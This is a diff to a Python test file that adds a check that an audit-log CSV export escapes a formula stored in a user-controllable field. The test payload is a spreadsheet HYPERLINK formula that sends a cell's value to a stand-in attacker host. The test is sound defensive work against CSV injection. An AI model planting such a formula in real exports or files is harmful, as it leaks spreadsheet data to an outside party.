@@ -14,6 +14,7 @@ import pytest
 import sqlalchemy as sa
 
 from clerk_sync.auth.admin import AdminActions
+from clerk_sync.auth.audit import AuditEntry, record_audit
 from clerk_sync.config import Settings
 from clerk_sync.errors import ConfigError
 from clerk_sync.integrations.console import create_console
@@ -219,6 +220,13 @@ def test_audit_log_filters_and_exports_csv(stack: ConsoleStack) -> None:
     rows = list(csv.DictReader(io.StringIO(exported.text)))
     assert [r["action"] for r in rows] == ["role.changed"]
     assert rows[0]["target_clerk_id"] == stack.user_id and '"to": "admin"' in rows[0]["details"]
+    # A text any user can have audited (a refused impersonation of this "Clerk id") is no formula there
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    with stack.store.transaction() as writer:
+        record_audit(writer, AuditEntry("impersonation.refused", stack.user_id, formula))
+    with operator_client(stack) as client:
+        exported = client.get("/audit.csv", params={"action": "impersonation.refused"})
+    assert [r["target_clerk_id"] for r in csv.DictReader(io.StringIO(exported.text))] == ["'" + formula]
 
 
 @pytest.fixture
